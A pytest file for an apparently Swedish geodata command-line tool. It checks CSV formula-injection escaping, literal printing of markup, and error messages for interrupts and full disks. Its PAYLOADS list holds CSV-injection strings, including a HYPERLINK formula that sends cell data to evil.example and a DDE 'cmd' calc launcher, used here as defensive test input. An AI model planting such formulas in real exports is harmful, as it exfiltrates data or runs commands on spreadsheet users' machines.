"""Issue 11, items 6 and 8: formula-safe CSV, data printed as text, messages instead of
tracebacks (Ctrl-C, full disk, geo_trygg errors), ``--kind points`` and the right ``--kind``.
"""

from __future__ import annotations

import csv
import errno
import json
import math
import os
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import geopandas as gpd
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyproj import Transformer
from shapely.geometry import box

from geo_trygg import ReadError
from geo_trygg.cli import main
from geo_trygg.demo import PACK_EXAMPLE
from geo_trygg.io import read_points, write_rejected
from geo_trygg.io.write import original_text, write_points

# OWASP "CSV injection": first characters a spreadsheet reads as the start of a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1;"klicka")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "=1+1",
]
MARKUP = ["[/]", "[bold]x", "[link=http://evil.example]klick[/link]", ":thumbs_up:"]

ENV = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


def _cells(path: Path) -> list[list[str]]:
    """Every cell of a ``;`` CSV written by the project (UTF-8 with BOM), read with ``csv``."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


def _is_number(cell: str) -> bool:
    """A plain decimal number (decimal comma or point), checked with ``float``."""
    if not cell or any(c not in "0123456789+-.,eE" for c in cell):
        return False
    try:
        return math.isfinite(float(cell.replace(",", ".")))
    except ValueError:
        return False


def _assert_formula_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), cell


# --- formula-safe CSV -------------------------------------------------------------------------


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(values=st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=1, max_size=6))
def test_any_text_is_written_formula_safe_and_recoverable(values: list[str]) -> None:
    # the value column of a rejected-rows table, through the real writer and csv.reader
    rejected = pd.DataFrame(
        {"row": range(2, 2 + len(values)), "column": "c", "value": values, "reason": "r"}
    )
    with tempfile.TemporaryDirectory() as tmp:
        path = write_rejected(rejected, Path(tmp) / "avvisade.csv")
        rows = _cells(path)
    assert rows[0] == ["row", "column", "value", "reason"]
    cells = [r[2] for r in rows[1:]]
    _assert_formula_safe([cells])
    # the documented way back: one leading apostrophe removed
    assert [original_text(c) for c in cells] == values


@given(text=st.text(alphabet="=+-@\t\r'0123456789.,eE ", max_size=8))
def test_rule_on_formula_alphabet(text: str) -> None:
    from geo_trygg.io.write import formula_safe_text

    cell = formula_safe_text(text)
    assert not cell.startswith(FORMULA_START) or _is_number(cell)
    assert original_text(cell) == text


def test_numbers_stay_numbers_and_apostrophes_are_doubled(tmp_path: Path) -> None:
    from geo_trygg.io.write import formula_safe_text

    # hand-checked cases: numbers (text or not) are left alone, formulas are prefixed
    assert formula_safe_text("-1") == "-1"
    assert formula_safe_text("-0,5") == "-0,5"
    assert formula_safe_text("+46701234567") == "+46701234567"
    assert formula_safe_text("-1+1") == "'-1+1"
    assert formula_safe_text("-") == "'-"
    assert formula_safe_text("'=1") == "''=1"
    assert formula_safe_text("'hej") == "''hej"
    points = gpd.GeoDataFrame(
        {"temp": [-1.5, 2.0], "note": ["-5", "=1+1"]},
        geometry=gpd.points_from_xy([674_000.0, 674_100.0], [6_575_000.0, 6_575_100.0]),
        crs="EPSG:3006",
    )
    rows = _cells(write_points(points, tmp_path / "p.csv"))
    assert rows[0][:2] == ["temp", "note"]
    assert [r[:2] for r in rows[1:]] == [["-1,5", "-5"], ["2,0", "'=1+1"]]


def test_categorical_and_duplicate_named_columns(tmp_path: Path) -> None:
    from geo_trygg.io.write import formula_safe

    frame = pd.DataFrame([["=a", "@b", -1]], columns=["kat", "kat", "=n"])
    frame.isetitem(0, frame.iloc[:, 0].astype("category"))
    safe = formula_safe(frame)
    assert safe.iloc[0].tolist() == ["'=a", "'@b", -1]
    assert safe.columns.tolist() == ["kat", "kat", "'=n"]
    assert frame.iloc[0].tolist() == ["=a", "@b", -1]  # the input is not changed


FINDINGS = (
    "id;datum;kategori;beskrivning;status;lat;lon;anteckning;temp\n"
    "1;2024-03-05;{0};{1};ny;59,2781;18,0106;{2};-5\n"
    "2;2024-03-05;Klotter;{3};ny;59,2790;18,0120;{4};3\n"
    "3;=NOW();Klotter;datum är en formel;ny;59,2790;18,0120;x;1\n"
    "4;2024-03-05;Klotter;@koordinat;ny;@lat;18,0120;x;1\n"
)


def _csv_field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _areas(tmp_path: Path, names: tuple[str, str] = ("Väst", "Öst")) -> Path:
    """Two boxes in EPSG:3006 split just east of the first finding."""
    first = gpd.GeoSeries.from_xy([18.0106], [59.2781], crs=4326).to_crs(3006).iloc[0]
    x0, y0 = first.x, first.y
    areas = gpd.GeoDataFrame(
        {"area_id": ["west", "east"], "name": list(names), "level": ["stadsdel", "stadsdel"]},
        geometry=[
            box(x0 - 1000, y0 - 1000, x0 + 50, y0 + 1000),
            box(x0 + 50, y0 - 1000, x0 + 1000, y0 + 1000),
        ],
        crs=3006,
    )
    path = tmp_path / "areas.gpkg"
    areas.to_file(path)
    return path


def test_join_csv_and_sidecar_hold_no_formula(runner: CliRunner, tmp_path: Path) -> None:
    points = tmp_path / "fynd.csv"
    points.write_text(FINDINGS.format(*map(_csv_field, PAYLOADS)), encoding="utf-8")
    out = tmp_path / "ut.csv"
    res = runner.invoke(
        main,
        [
            "join",
            str(points),
            "--areas",
            str(_areas(tmp_path)),
            "--out",
            str(out),
            "--no-crosswalk",
        ],
    )
    assert res.exit_code == 0, res.output
    rows = _cells(out)
    _assert_formula_safe(rows)
    header = rows[0]
    by_col = {name: [r[header.index(name)] for r in rows[1:]] for name in header}
    # each payload comes back by removing the apostrophe
    assert [original_text(c) for c in by_col["category_original"]] == [PAYLOADS[0], "Klotter"]
    assert [original_text(c) for c in by_col["description"]] == [PAYLOADS[1], PAYLOADS[3]]
    assert [original_text(c) for c in by_col["src_anteckning"]] == [PAYLOADS[2], PAYLOADS[4]]
    assert by_col["src_temp"] == ["-5", "3"]  # numbers are not touched
    sidecar = _cells(tmp_path / "ut.rejected.csv")
    _assert_formula_safe(sidecar)
    values = {r[0]: original_text(r[2]) for r in sidecar[1:]}  # row -> value
    assert values == {"4": "=NOW()", "5": "@lat"}


def test_pack_rejected_rows_file_is_formula_safe(tmp_path: Path) -> None:
    from geo_trygg.pack._build import _write_rejected

    rejected = pd.DataFrame(
        {
            "row": [2, 3, 4, 5, 6],
            "column": ["datum", "lat", "lon", "x", "y"],
            "value": PAYLOADS,
            "reason": ["r"] * 5,
            "file": ["=fil.csv"] * 5,
        }
    )
    path = tmp_path / "avvisade_rader.csv"
    _write_rejected(path, rejected, public=False)
    rows = _cells(path)
    _assert_formula_safe(rows)
    assert [original_text(r[2]) for r in rows[1:]] == PAYLOADS
    assert {original_text(r[4]) for r in rows[1:]} == {"=fil.csv"}


def test_lagesbild_csv_uses_the_same_rule(tmp_path: Path) -> None:
    from geo_trygg.export import write_csv_folder

    frame = pd.DataFrame({"text": ["-1", "'=x", "-1+1"], "n": [-1, -2, -3]})
    (path,) = write_csv_folder({"t": frame}, tmp_path)
    rows = _cells(path)
    assert rows[1:] == [["-1", "-1"], ["''=x", "-2"], ["'-1+1", "-3"]]
    assert [original_text(r[0]) for r in rows[1:]] == ["-1", "'=x", "-1+1"]


# --- data printed as text ---------------------------------------------------------------------


def _markup_file(tmp_path: Path) -> Path:
    """Findings whose header and rejected values hold rich markup and emoji codes."""
    lines = ["id;datum;kategori;lat;lon;[bold]kolumn"]
    for i, text in enumerate(MARKUP, start=1):  # each a bad date: printed as the value
        lines.append(f"{i};{text};Klotter;59,2781;18,0106;{text}")
    lines.append("9;2024-03-05;Klotter;59,2781;18,0106;[/]")  # accepted
    path = tmp_path / "[bold]fynd [link=x].csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_validate_prints_markup_as_text(runner: CliRunner, tmp_path: Path) -> None:
    path = _markup_file(tmp_path)
    args = ["validate", str(path), "--kind", "findings"]
    res = runner.invoke(main, args, env={"COLUMNS": "200"})
    assert res.exit_code == 1, res.output
    cells = [line.split("│") for line in res.output.splitlines() if line.startswith("│")]
    assert [c[3].strip() for c in cells] == MARKUP  # the value column, as written
    assert "'[bold]kolumn'" in res.output  # the header, in the note on extra columns


def test_validate_in_a_real_subprocess(tmp_path: Path) -> None:
    path = _markup_file(tmp_path)
    res = subprocess.run(
        [sys.executable, "-m", "geo_trygg", "validate", str(path), "--kind", "findings"],
        capture_output=True,
        text=True,
        env={**ENV, "COLUMNS": "200"},
        check=False,
    )
    assert res.returncode == 1, res.stderr
    assert "Traceback" not in res.stderr
    for text in MARKUP:
        assert f"│ {text} " in res.stdout, text  # a cell of the rejected-rows table


ONE_FINDING = "id;datum;kategori;lat;lon\n1;2024-03-05;Klotter;59,2781;18,0106\n"


def test_join_paths_with_markup(runner: CliRunner, tmp_path: Path) -> None:
    points = tmp_path / "p.csv"
    points.write_text(ONE_FINDING, encoding="utf-8")
    out = tmp_path / "[bold]ut[/].csv"
    args = ["join", str(points), "--areas", str(_areas(tmp_path))]
    res = runner.invoke(main, [*args, "--out", str(out), "--no-crosswalk"])
    assert res.exit_code == 0, res.output
    assert str(out) in " ".join(res.output.split())


def _fake_build(monkeypatch: pytest.MonkeyPatch, effect: Any) -> None:
    """``build_pack`` replaced: it reports a progress step and returns or raises ``effect``."""
    import geo_trygg.pack as pack

    def load_config(path: Any) -> tuple[Any, Path]:
        return object(), Path(path).parent

    def build_pack(config: Any, base: Any, out: Any, **kwargs: Any) -> Any:
        kwargs["progress"](f"stadsdel: {MARKUP[0]} {MARKUP[1]}")
        if isinstance(effect, BaseException):
            raise effect
        return effect

    monkeypatch.setattr(pack, "load_config", load_config)
    monkeypatch.setattr(pack, "build_pack", build_pack)


def test_build_summary_prints_area_names_as_text(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from geo_trygg.pack._build import PackResult

    result = PackResult(
        out=tmp_path,
        pages=[
            {"level": "stadsdel", "area": "[/]Globen", "path": "a/[b]", "reused": False},
            {"level": "lpo", "area": MARKUP[2], "path": "lpo/x", "reused": True},
        ],
        failed=[{"level": "stadsdel", "area": "[bold]Fel", "error": "[/] trasig"}],
        rejected=0,
    )
    _fake_build(monkeypatch, result)
    res = runner.invoke(
        main, ["build", str(tmp_path / "c.toml"), "--out", str(tmp_path / "p"), "-v"]
    )
    assert res.exit_code == 1, res.output  # a page failed
    flat = " ".join(res.output.split())
    for text in ("[/]Globen", "a/[b]", "[bold]Fel", "[/] trasig", f"{MARKUP[0]} {MARKUP[1]}"):
        assert text in flat, text


def test_warnings_print_markup_as_text(capsys: pytest.CaptureFixture[str]) -> None:
    from geo_trygg.cli import _show_warning

    _show_warning("[/] område [bold]x", UserWarning, "f.py", 1)
    assert "[/] område [bold]x" in capsys.readouterr().err


# --- tracebacks to messages -------------------------------------------------------------------


def test_ctrl_c_during_a_command(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fake_build(monkeypatch, KeyboardInterrupt())
    res = runner.invoke(main, ["build", str(tmp_path / "c.toml"), "--out", str(tmp_path / "p")])
    assert res.exit_code == 130
    assert "Avbrutet." in res.output
    assert isinstance(res.exception, SystemExit)
    res = runner.invoke(
        main, ["--lang", "en", "build", str(tmp_path / "c.toml"), "--out", str(tmp_path / "p")]
    )
    assert (res.exit_code, res.output.strip().splitlines()[-1]) == (130, "Interrupted.")


def test_ctrl_c_while_options_are_read(runner: CliRunner, monkeypatch: pytest.MonkeyPatch) -> None:
    import click

    def interrupted(self: Any, ctx: Any, args: Any) -> Any:
        raise KeyboardInterrupt

    monkeypatch.setattr(click.Group, "parse_args", interrupted)
    res = runner.invoke(main, ["validate", "x.csv", "--kind", "findings"])
    assert (res.exit_code, res.output.strip()) == (130, "Avbrutet.")


STARTUP = """
import os, signal, sys

class Interrupt:
    # a real SIGINT while {module!r} is being imported (the libraries load at start-up)
    def find_spec(self, name, path=None, target=None):
        if name == {module!r}:
            sys.meta_path.remove(self)
            os.kill(os.getpid(), signal.SIGINT)
        return None

sys.meta_path.insert(0, Interrupt())
sys.argv = ["geo-trygg", "validate", {path!r}, "--kind", "findings"]
from geo_trygg.cli import main  # what the geo-trygg script does
sys.exit(main())
"""


@pytest.mark.parametrize("module", ["pandas", "geopandas", "pyproj"])
def test_ctrl_c_during_start_up(tmp_path: Path, module: str) -> None:
    path = tmp_path / "fynd.csv"
    path.write_text("datum;kategori;lat;lon\n2024-03-05;Klotter;59,27;18,01\n", encoding="utf-8")
    code = STARTUP.format(module=module, path=str(path))
    res = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, env=ENV, check=False
    )
    assert "Traceback" not in res.stderr, res.stderr
    assert res.stderr.strip() == "Avbrutet."
    assert res.returncode == 130


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (errno.ENOSPC, "Kunde inte skriva {path}: disken är full"),
        (errno.EDQUOT, "Kunde inte skriva {path}: diskkvoten är slut"),
        (errno.EROFS, "Kunde inte skriva {path}: filsystemet är skrivskyddat"),
        (errno.EACCES, "Behörighet saknas för {path}"),
    ],
)
def test_join_disk_full_is_a_message(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int, expected: str
) -> None:
    import geo_trygg.io.write as write

    def full(*args: Any, **kwargs: Any) -> None:
        raise OSError(code, os.strerror(code))  # no file name, as a failing write() gives

    monkeypatch.setattr(write, "write_points", full)
    points = tmp_path / "p.csv"
    points.write_text(ONE_FINDING, encoding="utf-8")
    out = tmp_path / "ut.gpkg"
    args = ["join", str(points), "--areas", str(_areas(tmp_path))]
    res = runner.invoke(main, [*args, "--out", str(out), "--no-crosswalk"])
    assert res.exit_code == 2
    assert isinstance(res.exception, SystemExit)
    assert expected.format(path=out) in " ".join(res.output.split())


def test_join_gdal_write_error_is_a_message(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pyogrio.errors import DataSourceError

    import geo_trygg.io.write as write

    def full(*args: Any, **kwargs: Any) -> None:
        raise DataSourceError("sqlite3_step() failed: database or disk is full")

    monkeypatch.setattr(write, "write_points", full)
    points = tmp_path / "p.csv"
    points.write_text(ONE_FINDING, encoding="utf-8")
    out = tmp_path / "ut.gpkg"
    args = ["join", str(points), "--areas", str(_areas(tmp_path)), "--no-crosswalk"]
    res = runner.invoke(main, [*args, "--out", str(out)])
    assert res.exit_code == 2
    assert isinstance(res.exception, SystemExit)
    expected = f"Kunde inte skriva {out}: sqlite3_step() failed: database or disk is full"
    assert expected in " ".join(res.output.split())


def test_out_is_a_folder(runner: CliRunner, tmp_path: Path) -> None:
    points = tmp_path / "p.csv"
    points.write_text(ONE_FINDING, encoding="utf-8")
    out = tmp_path / "ut.gpkg"
    out.mkdir()
    args = ["join", str(points), "--areas", str(_areas(tmp_path)), "--no-crosswalk"]
    res = runner.invoke(main, [*args, "--out", str(out)])
    assert res.exit_code == 2
    assert f"Filfel för {out}: är en mapp" in " ".join(res.output.split())


def test_build_disk_full_names_the_file(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = tmp_path / "p" / "stadsdel" / "karta.html"
    _fake_build(monkeypatch, OSError(errno.ENOSPC, "No space left on device", str(page)))
    res = runner.invoke(main, ["build", str(tmp_path / "c.toml"), "--out", str(tmp_path / "p")])
    assert res.exit_code == 2
    assert f"Kunde inte skriva {page}: disken är full" in " ".join(res.output.split())


def test_any_geo_trygg_error_is_a_message(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fake_build(monkeypatch, ReadError("filen finns inte: x.csv"))
    res = runner.invoke(main, ["build", str(tmp_path / "c.toml"), "--out", str(tmp_path / "p")])
    assert res.exit_code == 2
    assert isinstance(res.exception, SystemExit)
    assert "Fel: filen finns inte: x.csv" in res.output


# --- plain points -----------------------------------------------------------------------------


def _to_3006(lon: float, lat: float) -> tuple[float, float]:
    return Transformer.from_crs(4326, 3006, always_xy=True).transform(lon, lat)


def test_read_points_id_and_coordinates_only(tmp_path: Path) -> None:
    path = tmp_path / "kameror.csv"
    path.write_text(
        "Kamera-ID;Latitud;Longitud;Adress\n"
        "K1;59,2781;18,0106;Götgatan 1\n"
        "K2;18,0120;59,2790;Ringvägen 2\n"  # lat and lon swapped
        "K3;;18,0120;Okänd\n"  # no latitude
        "K1;59,2790;18,0120;Samma id\n",
        encoding="utf-8",
    )
    res = read_points(path)
    acc = res.accepted
    assert acc["point_id"].tolist() == ["K1", "K2"]
    assert acc["source_row"].tolist() == [2, 3]
    assert acc["coords_swapped"].tolist() == [False, True]
    assert acc["src_Adress"].tolist() == ["Götgatan 1", "Ringvägen 2"]
    expected = [(18.0106, 59.2781), (18.0120, 59.2790)]
    for geom, (lon, lat) in zip(acc.geometry, expected, strict=True):
        x, y = _to_3006(lon, lat)
        assert (geom.x, geom.y) == pytest.approx((x, y), abs=0.01)
    assert acc.crs.to_epsg() == 3006
    rej = res.rejected.set_index("row")
    assert rej.loc[4, "reason"] == "koordinat saknas"
    assert rej.loc[5, "reason"] == "samma id som rad 2; varje id får bara finnas en gång i filen"
    assert (res.summary.n_input, res.summary.n_accepted, res.summary.n_rejected) == (4, 2, 2)


def test_read_points_without_id_uses_row_numbers(tmp_path: Path) -> None:
    # SWEREF 99 TM with bare x/y holding the northing in x (the Swedish convention)
    x1, y1 = _to_3006(18.0106, 59.2781)
    x2, y2 = _to_3006(18.0120, 59.2790)
    path = tmp_path / "punkter.csv"
    path.write_text(f"x;y;namn\n{y1:.2f};{x1:.2f};A\n{y2:.2f};{x2:.2f};B\n", encoding="utf-8")
    res = read_points(path)
    assert res.accepted["point_id"].tolist() == ["2", "3"]
    assert res.summary.crs_in == "EPSG:3006"
    got = [(g.x, g.y) for g in res.accepted.geometry]
    assert got == [pytest.approx((x1, y1), abs=0.01), pytest.approx((x2, y2), abs=0.01)]


def test_read_points_from_a_vector_file(tmp_path: Path) -> None:
    gdf = gpd.GeoDataFrame(
        {"nr": ["a", "b"], "typ": ["skola", "bibliotek"]},
        geometry=gpd.points_from_xy([18.0106, 18.0120], [59.2781, 59.2790]),
        crs=4326,
    )
    path = tmp_path / "platser.geojson"
    gdf.to_file(path)
    res = read_points(path)
    assert res.accepted["point_id"].tolist() == ["a", "b"]
    assert res.accepted["src_typ"].tolist() == ["skola", "bibliotek"]
    x, y = _to_3006(18.0120, 59.2790)
    assert (res.accepted.geometry.iat[1].x, res.accepted.geometry.iat[1].y) == pytest.approx(
        (x, y), abs=0.01
    )


def test_join_plain_points(runner: CliRunner, tmp_path: Path) -> None:
    points = tmp_path / "p.csv"
    points.write_text("id;lat;lon\nA;59,2781;18,0106\nB;59,2790;18,0120\nC;;\n", encoding="utf-8")
    out = tmp_path / "ut.geojson"
    args = ["join", str(points), "--kind", "points", "--areas", str(_areas(tmp_path))]
    res = runner.invoke(main, [*args, "--out", str(out), "--no-crosswalk"])
    assert res.exit_code == 0, res.output
    got = gpd.read_file(out)
    # the second point lies ~80 m east of the first, east of the split line
    assert got["point_id"].tolist() == ["A", "B"]
    assert got["stadsdel"].tolist() == ["Väst", "Öst"]
    rejected = pd.read_csv(tmp_path / "ut.rejected.csv", sep=";", encoding="utf-8-sig")
    assert rejected["row"].tolist() == [4]


def test_validate_points_kind(runner: CliRunner, tmp_path: Path) -> None:
    points = tmp_path / "p.csv"
    points.write_text("id;lat;lon\nA;59,2781;18,0106\n", encoding="utf-8")
    res = runner.invoke(main, ["validate", str(points), "--kind", "points", "--json"])
    assert res.exit_code == 0, res.output
    assert json.loads(res.output)["summary"]["n_accepted"] == 1


@pytest.mark.shared
def test_join_real_stations_as_plain_points(
    runner: CliRunner, tmp_path: Path, shared_data: Path
) -> None:
    folder = shared_data / "stockholm_rail_stations_wikidata"
    stations = []
    for name in ("tunnelbana_stations.json", "pendeltag_stations.json"):
        stations += json.loads((folder / name).read_text(encoding="utf-8"))
    # a derived table in tmp only: the Wikidata id, the name and the coordinates
    lines = ["wikidata;station;lat;lon"]
    lines += [f"{s['id']};{s['name']};{s['lat']};{s['lon']}" for s in stations]
    points = tmp_path / "stationer.csv"
    points.write_text("\n".join(lines) + "\n", encoding="utf-8")
    shp = shared_data / "stockholm_stadsdelar/shapefiles_fullsize/stadsdelar.shp"
    out = tmp_path / "ut.csv"
    res = runner.invoke(
        main,
        [
            "join",
            str(points),
            "--kind",
            "points",
            "--areas",
            f"stockholm-stadsdelar={shp}",
            "--out",
            str(out),
            "--no-crosswalk",
        ],
    )
    assert res.exit_code == 0, res.output
    got = pd.read_csv(out, sep=";", decimal=",", encoding="utf-8-sig", dtype={"point_id": str})
    # no column recognised as an id: the row number is the id; every station is kept
    assert len(got) == len(stations)
    by_name = dict(zip(got["src_station"], got["stadsdel"], strict=True))
    # known memberships (tests/test_join_shared.py): Älvsjö, Rinkeby; Fittja is in Botkyrka
    assert by_name["Älvsjö"] == "ÄLVSJÖ"
    assert by_name["Rinkeby"] == "RINKEBY"
    assert pd.isna(by_name["Fittja"])


# --- the right --kind -------------------------------------------------------------------------

POLICE = [
    {
        "id": 1,
        "datetime": "2024-11-05 21:10:00 +01:00",
        "name": "05 november 21.10, Inbrott, Stockholm",
        "summary": "Inbrott i lägenhet.",
        "url": "/aktuellt/handelser/2024/november/5/x/",
        "type": "Inbrott",
        "location": {"name": "Stockholm", "gps": "59.329324,18.068581"},
    }
]


@pytest.mark.parametrize("kind", ["findings", "points", "areas"])
def test_police_json_names_kind_events(runner: CliRunner, tmp_path: Path, kind: str) -> None:
    path = tmp_path / "polisen.json"
    path.write_text(json.dumps(POLICE, ensure_ascii=False), encoding="utf-8")
    res = runner.invoke(main, ["validate", str(path), "--kind", kind])
    assert res.exit_code == 2
    assert "--kind events" in res.output
    assert "polisens händelse-API" in res.output
    assert "not recognized" not in res.output
    res = runner.invoke(main, ["--lang", "en", "validate", str(path), "--kind", kind])
    assert "police events API file" in res.output
    assert "use --kind events" in res.output
    # the right kind reads it
    assert runner.invoke(main, ["validate", str(path), "--kind", "events"]).exit_code == 0


def test_join_police_json_without_kind(runner: CliRunner, tmp_path: Path) -> None:
    path = tmp_path / "polisen.json"
    path.write_text(json.dumps(POLICE), encoding="utf-8")
    res = runner.invoke(
        main, ["join", str(path), "--areas", "x.gpkg", "--out", str(tmp_path / "u.csv")]
    )
    assert res.exit_code == 2
    assert "ange --kind events" in res.output


def test_read_points_refuses_police_json(tmp_path: Path) -> None:
    path = tmp_path / "polisen.json"
    path.write_text(json.dumps(POLICE), encoding="utf-8")
    with pytest.raises(ReadError, match="read_events"):
        read_points(path)


def test_an_array_of_other_records_is_not_taken_for_police(tmp_path: Path) -> None:
    from geo_trygg.io._plainpoints import looks_like_police_json

    other = tmp_path / "stationer.json"
    other.write_text('[{"id": "Q1", "name": "Fittja", "lat": 59.2, "lon": 17.8}]', "utf-8")
    deep = tmp_path / "djup.json"
    deep.write_text("[" * 5000 + "]" * 5000, "utf-8")
    police = tmp_path / "polisen.json"
    police.write_text(json.dumps(POLICE), "utf-8")
    assert [looks_like_police_json(p) for p in (other, deep, police)] == [False, False, True]


EVENTS = "tidpunkt;händelsetyp;lat;lon\n2024-11-05 21:10;Inbrott;59,2781;18,0106\n"
WALK = "vandringsdatum;kategori;lat;lon\n2024-03-05;Klotter;59,2781;18,0106\n"
PLAIN = "id;lat;lon\n1;59,2781;18,0106\n"


@pytest.mark.parametrize(
    ("text", "given", "sv", "en"),
    [
        (EVENTS, "findings", "ange --kind events", "use --kind events"),
        (WALK, "events", "ange --kind findings", "use --kind findings"),
        (PLAIN, "findings", "ange --kind points", "use --kind points"),
        (PLAIN, "events", "ange --kind points", "use --kind points"),
    ],
)
def test_other_kind_is_suggested(
    runner: CliRunner, tmp_path: Path, text: str, given: str, sv: str, en: str
) -> None:
    path = tmp_path / "fil.csv"
    path.write_text(text, encoding="utf-8")
    res = runner.invoke(main, ["validate", str(path), "--kind", given])
    assert res.exit_code == 2
    assert sv in res.output
    res = runner.invoke(main, ["--lang", "en", "validate", str(path), "--kind", given])
    assert en in res.output


def test_real_build_with_markup_in_area_names(runner: CliRunner, tmp_path: Path) -> None:
    from geo_trygg.demo import DEMO_DIR

    areas = json.loads((DEMO_DIR / "demo_areas.geojson").read_text(encoding="utf-8"))
    renamed = {"Globen": "[/]Globen [bold]x", "Skärholmen": "[link=http://e.x]Skärholmen"}
    for feature in areas["features"]:
        props = feature["properties"]
        if props["level"] == "lpo" and props["name"] in renamed:
            props["name"] = renamed[props["name"]]
    (tmp_path / "areas.geojson").write_text(json.dumps(areas, ensure_ascii=False), "utf-8")
    config = tmp_path / "pack.toml"
    config.write_text(
        'period = "2024-Q4"\npages = ["lpo"]\n[inputs]\n'
        f'events = "{(DEMO_DIR / "demo_events.csv").as_posix()}"\n'
        'areas = [{ path = "areas.geojson" }]\n',
        encoding="utf-8",
    )
    res = runner.invoke(
        main, ["build", str(config), "--out", str(tmp_path / "paket")], env={"COLUMNS": "200"}
    )
    assert res.exit_code == 0, res.output
    area_cells = [line.split("│")[2].strip() for line in res.output.splitlines() if "│" in line]
    assert set(renamed.values()) <= set(area_cells)


def test_no_kind_hint_for_a_polygon_file(runner: CliRunner, tmp_path: Path) -> None:
    # polygons given as findings: readable as points, but every row rejected (not a point)
    areas = gpd.GeoDataFrame(
        {"kod": ["a"]}, geometry=[box(674_000, 6_575_000, 675_000, 6_576_000)], crs=3006
    )
    path = tmp_path / "ytor.geojson"
    areas.to_file(path)
    res = runner.invoke(main, ["validate", str(path), "--kind", "findings"])
    assert res.exit_code == 2
    assert "--kind" not in res.output


def test_read_points_from_a_json_list_of_records(tmp_path: Path) -> None:
    path = tmp_path / "platser.json"
    records = [
        {"id": "Q1", "name": "Fittja", "lat": 59.2475, "lon": 17.86083, "lines": ["Röda"]},
        {"id": "Q2", "name": "Utan läge", "lat": None, "lon": None},
        {"id": "Q3", "name": "Omkastad", "lat": 18.01056, "lon": 59.27806},
    ]
    path.write_text(json.dumps(records, ensure_ascii=False), encoding="utf-8")
    res = read_points(path)
    acc = res.accepted
    assert acc["point_id"].tolist() == ["Q1", "Q3"]
    assert acc["source_row"].tolist() == [1, 3]
    assert acc["coords_swapped"].tolist() == [False, True]
    assert acc["src_lines"].tolist() == ['["Röda"]', None]
    x, y = _to_3006(18.01056, 59.27806)
    assert (acc.geometry.iat[1].x, acc.geometry.iat[1].y) == pytest.approx((x, y), abs=0.01)
    assert res.rejected["row"].tolist() == [2]


@pytest.mark.parametrize("text", ["[[1, 2]]", "[]", "[" * 5000 + "]" * 5000, '[{"a": 1'])
def test_json_that_is_no_list_of_records(runner: CliRunner, tmp_path: Path, text: str) -> None:
    path = tmp_path / "x.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ReadError, match="JSON-lista av poster"):
        read_points(path)
    res = runner.invoke(main, ["--lang", "en", "validate", str(path), "--kind", "points"])
    assert res.exit_code == 2
    assert "neither GeoJSON nor a JSON list of records" in res.output


@pytest.mark.shared
def test_join_real_station_json_directly(
    runner: CliRunner, tmp_path: Path, shared_data: Path
) -> None:
    path = shared_data / "stockholm_rail_stations_wikidata/tunnelbana_stations.json"
    stations = json.loads(path.read_text(encoding="utf-8"))
    shp = shared_data / "stockholm_stadsdelar/shapefiles_fullsize/stadsdelar.shp"
    out = tmp_path / "ut.geojson"
    res = runner.invoke(
        main,
        [
            *("join", str(path), "--kind", "points"),
            *("--areas", f"stockholm-stadsdelar={shp}", "--out", str(out), "--no-crosswalk"),
        ],
    )
    assert res.exit_code == 0, res.output
    got = gpd.read_file(out)
    assert sorted(got["point_id"]) == sorted(s["id"] for s in stations)
    by_name = dict(zip(got["src_name"], got["stadsdel"], strict=True))
    assert by_name["Rinkeby"] == "RINKEBY"
    assert by_name["Husby"] == "HUSBY"
    # given as findings, the right kind is named
    res = runner.invoke(main, ["validate", str(path), "--kind", "findings"])
    assert res.exit_code == 2
    assert "ange --kind points" in res.output


def test_real_ctrl_c_during_a_build(tmp_path: Path) -> None:
    import signal

    proc = subprocess.Popen(
        [sys.executable, "-m", "geo_trygg", "demo", "--out", str(tmp_path / "paket")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=ENV,
    )
    assert proc.stdout is not None
    title = proc.stdout.readline()  # printed once the command runs
    assert "DEMO" in title
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=300)
    assert "Traceback" not in err, err
    assert err.strip().splitlines()[-1] == "Avbrutet."
    assert proc.returncode == 130


def test_ctrl_c_in_a_parallel_build_ends_every_process_without_a_traceback(
    tmp_path: Path,
) -> None:
    # Ctrl-C in a terminal reaches the whole process group: the build and its page workers
    import signal
    import time

    out = tmp_path / "paket"
    config = PACK_EXAMPLE
    proc = subprocess.Popen(
        [sys.executable, "-m", "geo_trygg", "build", str(config), f"--out={out}", "--jobs=2"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=ENV,
        start_new_session=True,
    )
    building = tmp_path / ".paket.building"
    deadline = time.monotonic() + 240
    while not (building.is_dir() and any(p.is_dir() for p in building.iterdir())):
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGINT)  # pages are being built by the workers now
